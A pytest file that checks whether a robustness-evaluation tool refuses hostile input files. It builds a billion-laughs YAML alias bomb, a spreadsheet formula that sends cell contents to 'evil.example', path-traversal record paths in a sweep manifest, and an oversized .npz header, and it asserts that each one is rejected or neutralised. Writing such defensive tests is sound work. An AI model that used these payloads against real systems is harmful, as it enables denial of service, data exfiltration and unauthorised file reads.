"""Files from others (configs, records, sweep folders, data files) cannot exhaust memory, run formulas in a
spreadsheet or make a report read files outside the folder it was given; each is refused with one line."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest

from eval_helpers import make_record, make_result
from kwta_robust.cli import main
from kwta_robust.configio import load_yaml_text, read_yaml
from kwta_robust.errors import ConfigError, DataError
from kwta_robust.formats import render_records
from kwta_robust.formats.csv import csv_text
from kwta_robust.html_sweep import load_sweep
from kwta_robust.results import save_record

#: Nine anchors of nine aliases each: 9**9 values once expanded, from 10 short lines.
LAUGHS = "junk: [&a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]" + "".join(
    f", &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)) + "]\n"


def test_billion_laughs_is_refused_before_anything_expands_it(tmp_path: Path) -> None:
    path = tmp_path / "evil.yaml"
    path.write_text("seed: 0\n" + LAUGHS)
    with pytest.raises(ConfigError, match=r"evil.yaml is not valid YAML \(line 2\): its aliases \(\*name\) expand "
                                          "to more than 1,000,000 values"):
        read_yaml(path, "--config")
    # anchors and merge keys of an ordinary size, and a recursive alias, still load
    data = load_yaml_text("base: &b {steps: 10, loss: ce}\npgd: {<<: *b, steps: 20}\nlists: [*b, *b]\nr: &r [1, *r]")
    assert data["pgd"] == {"steps": 20, "loss": "ce"} and data["lists"] == [data["base"]] * 2
    assert data["r"][1] is data["r"]


def test_an_integer_python_cannot_read_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "big.yaml"
    path.write_text("seed: " + "9" * 5000 + "\n")
    with pytest.raises(ConfigError, match=r"big.yaml is not valid YAML \(line 1\): an integer of 5000 digits"):
        read_yaml(path, "--config")
    assert load_yaml_text("a: 0x1f\nb: -12\nc: 1_000") == {"a": 31, "b": -12, "c": 1000}


def test_csv_cells_never_start_a_spreadsheet_formula() -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rec = make_record([make_result("pgd", [1, 0, 1, 0]), make_result("@SUM(A1)", [0, 0, 1, 0], attack="fgsm",
                                                                      position=1, cumulative=True)], label=payload)
    text = render_records([rec], "csv", "wide") + render_records([rec], "csv", "long")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-")]
    assert not [c for c in formulas if not _is_number(c)]
    assert "'" + payload in cells and "'+@SUM(A1) Linf 0.3 (%)" in cells
    assert [csv_text(v) for v in ("-62.0", "+1e-3", "-", "kwta", "-kwta", "\tx")] == \
        ["-62.0", "+1e-3", "-", "kwta", "'-kwta", "'\tx"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_sweep_manifest_cannot_point_the_report_outside_its_folder(tmp_path: Path, capsys) -> None:
    elsewhere = tmp_path / "private" / "eval.json"
    save_record(make_record([make_result("pgd", [1, 0])], label="private"), elsewhere)
    directory = tmp_path / "shared-sweep"
    directory.mkdir()
    for record in (str(elsewhere), "../private/eval.json"):
        (directory / "sweep.json").write_text(json.dumps({"name": "s", "cells": [{"record": record}]}))
        with pytest.raises(ConfigError, match="which is outside .*shared-sweep; a sweep's records are inside"):
            load_sweep(directory)
        assert main(["report", "--sweep", str(directory), "--out", str(tmp_path / "r.html")]) == 2
        assert capsys.readouterr().err.startswith(f"error: --sweep: {directory / 'sweep.json'} lists the record")
    assert not (tmp_path / "r.html").exists()


def test_an_npz_header_declaring_terabytes_is_a_data_error(tmp_path: Path) -> None:
    from kwta_robust.datafile import _read_arrays

    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (100000000000,), }"
    header += " " * (63 - (len(header) + 10) % 64) + "\n"
    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + bytes(64)
    path = tmp_path / "huge.npz"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("x.npy", npy)
        archive.writestr("y.npy", npy)
    with pytest.raises(DataError, match="header declares more values than fit in memory|not a readable .npz"):
        _read_arrays(path)
